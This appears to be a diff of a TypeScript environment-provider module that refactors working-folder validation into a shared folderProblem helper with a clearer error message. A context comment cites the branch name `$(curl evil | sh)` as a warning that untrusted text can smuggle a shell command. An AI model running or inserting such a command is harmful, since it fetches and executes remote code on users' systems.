@@ -9,10 +9,9 @@
  * text: a branch may be named `$(curl evil | sh)`.
  */
 import { join, resolve } from 'node:path'
-import { existsSync, statSync } from 'node:fs'
 import { Redactor, SteadyError, formatDuration } from '@steady/record'
 import type { EnvironmentProvider, ProviderDownContext, ProviderUpContext, ProviderUpResult } from '../types.ts'
-import { configError, durationMs, isRecord, onlyKeys, readinessOf, requiredString, stringRecord, type Readiness, type Where } from '../config-check.ts'
+import { configError, durationMs, folderProblem, isRecord, onlyKeys, readinessOf, requiredString, stringRecord, type Readiness, type Where } from '../config-check.ts'
 import { checkHttpUrl, checkTemplate, expandTemplate } from '../templates.ts'
 import { tagEnvName } from '../identity.ts'
 import { runShell, type ShellResult } from '../shell.ts'
@@ -98,7 +97,8 @@ function failed(environment: string, what: string, result: ShellResult, timeoutM
 async function up(config: CheckedCommandConfig, ctx: ProviderUpContext): Promise<ProviderUpResult> {
   const where: Where = { environment: config.environment }
   const cwd = resolve(ctx.projectDir, config.cwd ?? '.')
-  if (!existsSync(cwd) || !statSync(cwd).isDirectory()) throw configError(where, 'cwd', `cwd ${cwd} is not a folder`, 'write the folder relative to the config file')
+  const problem = folderProblem(ctx.projectDir, config.cwd)
+  if (problem) throw configError(where, 'cwd', problem, `create that folder, or fix cwd: it is relative to the project root ${ctx.projectDir}`)
   const steadyEnv: Record<string, string> = {
     STEADY_ENV_ID: ctx.id,
     STEADY_ENV_NAME: ctx.name,
